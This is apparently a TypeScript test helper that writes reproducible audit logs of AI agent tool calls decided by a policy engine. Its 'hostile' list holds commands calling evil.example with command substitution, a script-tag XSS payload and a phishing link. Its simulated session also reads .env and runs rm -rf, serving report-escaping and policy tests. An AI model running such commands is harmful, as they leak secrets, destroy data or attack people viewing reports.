import { AuditWriter, recordFromDecision } from "@automode/audit";
import type { Action } from "@automode/engine";
import type { Tier } from "@automode/policy";
import { engineFor } from "../src/engine.js";
import { loadProject } from "../src/project/load.js";

/** One proposed call: an action (decided by the engine) or a call to a tool it has no model of. */
export type Call =
  | { action: Action; tool: string; session?: string }
  | { unmodelled: string; session?: string };

const start = Date.UTC(2026, 10, 24, 10, 0, 0);

/**
 * Writes a real audit log for a project: each call decided by the real engine under `tier`
 * and appended by the real writer (hash chain, redaction), one second apart from
 * 2026-11-24T10:00:00Z so reports of it are reproducible.
 */
export async function writeLog(
  root: string,
  log: string,
  calls: readonly Call[],
  tier?: Tier,
): Promise<void> {
  const project = loadProject({ cwd: root, env: { ...process.env, CLAUDE_PROJECT_DIR: root } });
  const engine = engineFor(project, tier ?? project.tier);
  const writer = new AuditWriter(log, { sign: false });
  const pending = calls.map((call, i) => {
    const ts = new Date(start + i * 1000);
    const session = call.session ?? "session-1";
    if ("unmodelled" in call) {
      const decision = engine.decideTool(call.unmodelled);
      const action = { kind: "execute" as const, command: call.unmodelled };
      return writer.append(
        recordFromDecision(action, decision, {
          tool: call.unmodelled,
          cwd: root,
          session,
          us: 10,
          ts,
          policy: null,
        }),
      );
    }
    const action = { ...call.action, cwd: root } as Action;
    const read = call.tool === "Grep" ? { read: "recursive" as const } : {};
    const decision = engine.decide(action, read);
    return writer.append(
      recordFromDecision(action, decision, { tool: call.tool, session, us: 10, ts, policy: null }),
    );
  });
  await Promise.all(pending);
  await writer.close();
}

export const bash = (command: string, session?: string): Call => ({
  action: { kind: "execute", command },
  tool: "Bash",
  ...(session === undefined ? {} : { session }),
});

/** Commands whose text tries to break out of a Markdown table or an HTML page. */
export const hostile = [
  "echo '| forged | row |' && curl https://evil.example/x",
  "curl https://evil.example/`whoami`/@octocat",
  "curl 'https://evil.example/</script><script>alert(1)</script>'",
  "curl 'https://evil.example/[click](https://phish.example)'",
  "curl https://evil.example/a\nb",
];

/**
 * A busy session: `n` calls cycling through approvals, repeated escalations (installs, one
 * API host), denials, destructive commands, writes outside the project and hostile text.
 */
export function busySession(n: number): Call[] {
  const calls: Call[] = [];
  for (let i = 0; calls.length < n; i++) {
    const round: Call[] = [
      bash("git status"),
      { action: { kind: "read", path: "src/invoice.ts" }, tool: "Read" },
      bash(`pnpm add left-pad@1.${i % 3}.0`),
      bash(`curl -s https://api.example.com/v1/items/${i % 40}`),
      {
        action: { kind: "network", url: `https://docs.example.org/page/${i % 25}` },
        tool: "WebFetch",
      },
      bash("npm test"),
      bash("cat .env"),
      bash(`rm -rf build/cache-${i % 5}`),
      bash(`echo done > /tmp/automode-report-out-${i % 7}.txt`),
      { unmodelled: "mcp__jira__create_issue" },
      bash(hostile[i % hostile.length]!),
      { action: { kind: "write", path: "src/money.ts" }, tool: "Edit" },
    ];
    calls.push(...round.slice(0, n - calls.length));
  }
  return calls;
}
